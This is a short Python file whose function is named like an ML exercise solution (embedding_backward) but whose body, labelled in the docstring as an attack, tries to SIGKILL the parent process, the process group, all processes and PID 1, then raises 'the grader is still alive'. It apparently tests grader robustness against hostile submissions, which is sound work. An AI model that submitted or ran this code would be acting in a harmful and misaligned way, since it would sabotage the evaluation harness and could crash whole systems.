"""Attack: kill the parent, the process group, and everyone."""
import os
import signal


def embedding_backward(demb, Xb, vocab_size):
    for attempt in (lambda: os.kill(os.getppid(), signal.SIGKILL),
                    lambda: os.killpg(os.getpgid(0), signal.SIGKILL),
                    lambda: os.kill(-1, signal.SIGKILL),
                    lambda: os.kill(1, signal.SIGKILL)):
        try:
            attempt()
        except OSError:
            pass
    raise RuntimeError("the grader is still alive")
